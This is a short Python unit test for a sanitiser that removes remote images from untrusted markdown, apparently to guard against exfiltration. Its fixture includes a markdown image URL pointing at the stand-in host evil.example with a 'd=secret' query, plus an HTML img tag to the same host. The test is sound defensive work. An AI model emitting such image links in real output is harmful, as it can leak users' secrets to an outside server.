from core.text_safety import without_remote_images


def test_images_in_untrusted_markdown_never_fetch_anything():
    text = "See ![chart](https://evil.example/x?d=secret) and <img src='https://evil.example/y'> here."
    safe = without_remote_images(text)
    assert "evil.example" not in safe and "[image: chart]" in safe and "[image]" in safe
    assert without_remote_images("plain [link](https://ok.example) text") == "plain [link](https://ok.example) text"
